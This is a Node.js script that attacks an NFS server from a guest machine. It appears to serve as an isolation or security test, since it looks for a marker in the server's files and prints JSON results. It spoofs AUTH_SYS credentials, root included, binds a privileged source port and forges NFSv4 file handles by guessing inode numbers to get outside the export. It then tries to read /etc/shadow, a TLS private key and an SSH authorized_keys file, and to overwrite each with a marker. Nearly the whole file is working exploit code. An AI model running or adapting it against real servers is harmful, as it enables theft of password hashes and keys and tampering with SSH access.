// A client of NFS as a guest's root may write one: file handles it made up, in the name of whatever user it likes.
// Arguments: the server's address, the export's path there, and a mark by which the server's own files are known.
// Prints what it tried and what it got as JSON. Needs only Node: it runs where nothing else of the project does.
import { once } from 'node:events';
import { connect } from 'node:net';

const [address, path, mark] = process.argv.slice(2);

const u32 = (value) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const u64 = (value) => Buffer.concat([u32(0), u32(value)]);
const opaque = (value) => {
  const bytes = Buffer.from(value);
  return Buffer.concat([u32(bytes.length), bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)]);
};

/** Operations of NFSv4 (RFC 7530, 16); a stateid of zeros is anybody's. */
const anybody = Buffer.alloc(16);
const putRoot = u32(24);
const putHandle = (handle) => Buffer.concat([u32(22), opaque(handle)]);
const lookUp = (name) => Buffer.concat([u32(15), opaque(name)]);
const getHandle = u32(10);
const read = Buffer.concat([u32(25), anybody, u64(0), u32(4096)]);
const write = (text) => Buffer.concat([u32(38), anybody, u64(0), u32(2), opaque(text)]);

/** AUTH_SYS (RFC 5531, appendix A): the server believes it. */
const credential = ({ uid, gid }) => {
  const body = Buffer.concat([u32(0), opaque('guest'), u32(uid), u32(gid), u32(1), u32(gid)]);
  return Buffer.concat([u32(1), opaque(body), u32(0), u32(0)]);
};

/** Exports are for who comes from a port that only root has. */
async function dial() {
  for (let localPort = 700; localPort < 1000; localPort += 1) {
    const socket = connect({ host: address, port: 2049, localPort });
    try {
      await once(socket, 'connect');
      return socket;
    } catch (error) {
      if (error.code !== 'EADDRINUSE') throw error;
    }
  }
  throw new Error('no port');
}

const socket = await dial();
let received = Buffer.alloc(0);
let wake = () => undefined;
socket.on('data', (chunk) => {
  received = Buffer.concat([received, chunk]);
  wake();
});
socket.on('close', () => {
  console.error('the server hung up');
  process.exit(1);
});

let xid = 1;

/** @returns the status of the compound, and its answer's bytes */
async function compound(who, ...operations) {
  xid += 1;
  const body = Buffer.concat([opaque(''), u32(0), u32(operations.length), ...operations]);
  const call = Buffer.concat([u32(xid), u32(0), u32(2), u32(100_003), u32(4), u32(1), credential(who), body]);
  socket.write(Buffer.concat([u32(0x80000000 | call.length), call]));
  const length = () => (received.length < 4 ? Number.POSITIVE_INFINITY : received.readUInt32BE() & 0x7fffffff);
  while (received.length < 4 + length())
    await new Promise((resolve) => {
      wake = resolve;
    });
  const answer = received.subarray(4, 4 + length());
  received = received.subarray(4 + length());
  // xid, reply, accepted, verifier of no length, success; then the compound's status.
  if (answer.readUInt32BE(8) !== 0 || answer.readUInt32BE(20) !== 0) return { status: -1, body: answer };
  return { status: answer.readUInt32BE(24), body: answer.subarray(28) };
}

/** Bytes of the file system's name in a handle, by the type that its third byte is. */
const fsidLengths = [8, 4, 12, 8, 8, 8, 16, 24];

const users = [
  { uid: 1000, gid: 42 },
  { uid: 1000, gid: 1000 },
  { uid: 901, gid: 901 },
  { uid: 0, gid: 0 },
];
const names = path.split('/').filter((name) => name !== '');
const entry = await compound(users[0], putRoot, ...names.map(lookUp), getHandle);
if (entry.status !== 0) {
  console.log(JSON.stringify({ entry: entry.status, tried: 0, got: [] }));
  process.exit();
}
/** The answer ends with the handle, which is as long as the four bytes before say, and filled up to a multiple of four. */
function handleIn(body) {
  for (let length = 128; length >= 4; length -= 1) {
    const at = body.length - Math.ceil(length / 4) * 4;
    if (at >= 4 && body.readUInt32BE(at - 4) === length) return body.subarray(at, at + length);
  }
  throw new Error('no handle');
}

/** What the server gives on the way from NFSv4's root to the export: each names a file system. */
const given = [];
for (let depth = 0; depth <= names.length; depth += 1) {
  const { status, body } = await compound(users[0], putRoot, ...names.slice(0, depth).map(lookUp), getHandle);
  if (status === 0) given.push(handleIn(body));
}

/** Inode and generation as ext4 and others write them; it takes a generation of 0 for any. */
function forge(handle, inode) {
  const start = handle.subarray(0, 4 + fsidLengths[handle[2]]);
  const tail = Buffer.alloc(8);
  tail.writeUInt32LE(inode);
  const forged = Buffer.concat([start, tail]);
  forged[3] = 1;
  return forged;
}

const ways = [
  ['etc', 'shadow'],
  ['etc', 'kvm', 'tls', 'slapd.key'],
  ['home', 'admin', '.ssh', 'authorized_keys'],
];
const got = new Set();
let tried = 0;
for (const who of users)
  for (const handle of given) {
    const told = `${who.uid}:${who.gid}`;
    for (const inode of [2, 128, 256, 1])
      for (const way of ways) {
        const walk = [putHandle(forge(handle, inode)), ...way.map(lookUp)];
        tried += 2;
        const { status, body } = await compound(who, ...walk, read);
        if (status === 0 && body.includes(mark)) got.add(`${told} read ${way.join('/')}`);
        if ((await compound(who, ...walk, write(mark))).status === 0) got.add(`${told} wrote ${way.join('/')}`);
      }
    for (let inode = 1; inode <= 100; inode += 1) {
      tried += 1;
      const { status, body } = await compound(who, putHandle(forge(handle, inode)), read);
      if (status === 0 && body.includes(mark)) got.add(`${told} read an inode`);
    }
  }
console.log(JSON.stringify({ entry: 0, tried, got: [...got].sort() }));
process.exit();
